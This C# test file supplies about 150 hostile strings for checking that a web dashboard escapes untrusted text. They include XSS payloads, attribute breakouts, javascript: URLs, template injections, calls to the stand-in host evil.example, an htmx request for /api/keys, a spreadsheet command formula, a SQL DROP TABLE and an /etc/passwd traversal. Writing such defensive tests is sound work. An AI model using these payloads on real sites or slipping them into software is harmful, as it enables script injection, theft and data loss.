namespace Saker.Server.Tests.Dashboard.Hostile;

/// <summary>
/// Texts that would do something on a page that took them for more than text: each tries to call <c>own</c> with its number, to change
/// the page's structure, to lead elsewhere, or to deceive whoever reads it. In none of them is a character that no text may have.
/// </summary>
internal static class HostileTexts
{
    private const string Lines = """""
        <script>own(1)</script>
        <SCRIPT>own(2)</SCRIPT>
        <script src=//evil.example/3.js></script>
        <script>own(4)//
        <scr<script>ipt>own(5)</scr</script>ipt>
        <script type="module">own(6)</script>
        <script/x>own(7)</script>
        </script><script>own(8)</script>
        --></script><script>own(9)</script><!--
        <!--<img src="--><img src=x onerror=own(10)>">
        ]]><script>own(11)</script>
        </title><script>own(12)</script>
        </textarea><script>own(13)</script>
        </style><script>own(14)</script>
        </noscript><script>own(15)</script>
        </template><img src=x onerror=own(16)>
        </select><img src=x onerror=own(17)>
        </option></datalist><img src=x onerror=own(18)>
        </pre></code><img src=x onerror=own(19)>
        </svg><img src=x onerror=own(20)>
        </main></body></html><script>own(21)</script>
        <img src=x onerror=own(22)>
        <img src=x onerror="own(23)">
        <img src='x' onerror='own(24)'>
        <img/src=x/onerror=own(25)>
        <IMG SRC=x ONERROR=own(26)>
        <img src=x:x onerror=own`27`>
        <img srcset="x 1x" onerror=own(28)>
        <image src=x onerror=own(29)>
        <input autofocus onfocus=own(30)>
        <button autofocus onfocus=own(31)>go</button>
        <details open ontoggle=own(32)>more</details>
        <body onload=own(33)>
        <svg onload=own(34)>
        <svg/onload=own(35)//
        <svg><script>own(36)</script></svg>
        <svg><script href="data:,own(37)"/></svg>
        <svg><animate onbegin=own(38) attributeName=x dur=1s>
        <svg><set attributeName=onmouseover to=own(39)>
        <svg><a xlink:href="javascript:own(40)"><text y=20>x</text></a></svg>
        <svg><foreignObject><img src=x onerror=own(41)></foreignObject></svg>
        <svg><use href="data:image/svg+xml,<svg id='x' onload='own(42)'/>#x"/></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=own(43)></style></mglyph></table></mtext></math>
        <math href="javascript:own(44)">x</math>
        <iframe srcdoc="<script>parent.own(45)</script>"></iframe>
        <iframe src="javascript:parent.own(46)"></iframe>
        <iframe src="data:text/html,<script>parent.own(47)</script>"></iframe>
        <object data="javascript:own(48)"></object>
        <embed src="javascript:own(49)">
        <frameset onload=own(50)>
        <video><source onerror=own(51)></video>
        <audio src=x onerror=own(52)></audio>
        <video poster=//evil.example/53.png></video>
        <marquee onstart=own(54)>x</marquee>
        <base href="//evil.example/55/">
        <meta http-equiv="refresh" content="0;url=//evil.example/56">
        <meta http-equiv="refresh" content="0;url=javascript:own(57)">
        <link rel=stylesheet href=//evil.example/58.css>
        <link rel=import href=//evil.example/59>
        <style>@import '//evil.example/60.css';</style>
        <style>body{background:url(//evil.example/61.png)}</style>
        <div style="position:fixed;inset:0;background:url(//evil.example/62)">
        <p style="animation:x" onanimationstart=own(63)>
        <form action="//evil.example/64"><button>go</button></form>
        <form id=x></form><button form=x formaction="javascript:own(65)">go</button>
        <a href="javascript:own(66)">here</a>
        <a href="JaVaScRiPt:own(67)">here</a>
        <a href="&#106;avascript:own(68)">here</a>
        <a href="jav&#x09;ascript:own(69)">here</a>
        <a href="data:text/html;base64,PHNjcmlwdD5vd24oNzApPC9zY3JpcHQ+">here</a>
        <a href="//evil.example/71" target=_blank>here</a>
        <x-own onclick=own(72) tabindex=0 autofocus onfocus=own(72)>x</x-own>
        <a id=content name=content>73</a>
        <input name=parentNode><form name=documentElement>74
        " onmouseover="own(75)
        ' onmouseover='own(76)
        " autofocus onfocus="own(77)" x="
        ' autofocus onfocus='own(78)' x='
        "><script>own(79)</script>
        '><script>own(80)</script>
        "/><img src=x onerror=own(81)><x y="
        x onmouseover=own(82) y
        ` onmouseover=own(83) `
        " style="background:url(//evil.example/84)" x="
        " hx-get="/api/keys" hx-trigger="load" x="85
        " hx-on:load="own(86)" x="
        " data-chart="lines" data-first="{}" x="87
        " sse-connect="//evil.example/88" x="
        " formaction="javascript:own(89)" type="submit
        " href="javascript:own(90)" x="
        " srcdoc="<script>parent.own(91)</script>
        javascript:own(92)
        JAVASCRIPT:own(93)
        javascript://%0aown(94)
        data:text/html,<script>own(95)</script>
        vbscript:own(96)
        //evil.example/97
        https://evil.example/98?"><script>own(98)</script>
        /\evil.example/99
        \";own(100);//
        ';own(101);//
        "};own(102);var x={"y":"
        "}</script><script>own(103)</script>
        {"__proto__":{"owned":104},"</script>":"<script>own(104)</script>"}
        ${own(105)}
        `${own(106)}`
        {{own(107)}}
        {{constructor.constructor('own(108)')()}}
        {{7*7}}#{7*7}<%= 7*7 %>@(7*7)@{own(109);}
        @Html.Raw("<script>own(110)</script>")
        <%= own(111) %><?php own(111) ?>
        [here](javascript:own(112))
        ![x](x" onerror="own(113))
        <javascript:own(114)>
        [x]: javascript:own(115)
        **bold** <img src=x onerror=own(116)> `code`
        {a|<img src=x onerror=own(117)>}
        {b|own(118)}\n{c|<b>}
        &lt;script&gt;own(119)&lt;/script&gt;
        &amp;lt;script&amp;gt;own(120)
        &#60;script&#62;own(121)&#60;/script&#62;
        &#x3c;script&#x3e;own(122)
        \u003cscript\u003eown(123)\u003c/script\u003e
        \x3cscript\x3eown(124)
        %3Cscript%3Eown(125)%3C/script%3E
        %253Cscript%253Eown(126)
        +ADw-script+AD4-own(127)+ADw-/script+AD4-
        =HYPERLINK("//evil.example/128","x")
        =cmd|'/C calc'!A129
        '; DROP TABLE runs; --130
        ../../../../etc/passwd#131
        <b>own</b><i>132
        <table><tr><td>133</td></tr></table>
        <h1>Signed out</h1><p>134
        <!-- 135
        <![CDATA[136
        <?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "own(137)">]>&y;
        <
        >
        "
        '
        &
        """"";

    /// <summary>What an eye or a parser may take for something else.</summary>
    private static readonly string[] s_tricks =
    [
        "\u202e)831(nwo>tpircs<\u202c",
        "\u2066<script>own(139)</script>\u2069",
        "<\u200bscript>own(140)</script>",
        "\uff1cscript\uff1eown(141)\uff1c/script\uff1e",
        "\u02b9\u02ba\u2039script\u203aown(142)",
        "<script>own(143)\u2028</script>",
        "\u2028own(144)//\u2029",
        "<\u0130mg src=x onerror=own(145)>",
        "<script\u00a0>own(146)</script>",
        "\ufeff<script>own(147)</script>",
        "java\u00adscript:own(148)",
        "\U0001d4c8\U0001d4b8\U0001d4c7own(149)\U000e0041<b>",
        "e\u0301\u0302\u0303\u0304<i>150\u0489\u0489",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Lines.Split('\n'), .. s_tricks];

    /// <summary>Those that hold a character which a page must write otherwise, so that none of them may occur in its bytes as it is.</summary>
    public static IReadOnlyList<string> Marked { get; } = [.. All.Where(text => text.Length > 1 && text.IndexOfAny(['<', '>', '"', '\'', '&']) >= 0)];

    /// <summary>All of them in texts of several, each no longer than <paramref name="maxLength"/>.</summary>
    public static IReadOnlyList<string> Joined(int maxLength)
    {
        List<string> joined = [];
        foreach (var text in All)
            if (joined.Count > 0 && joined[^1].Length + 3 + text.Length <= maxLength)
                joined[^1] += " ~ " + text;
            else
                joined.Add(text);
        return joined;
    }
}
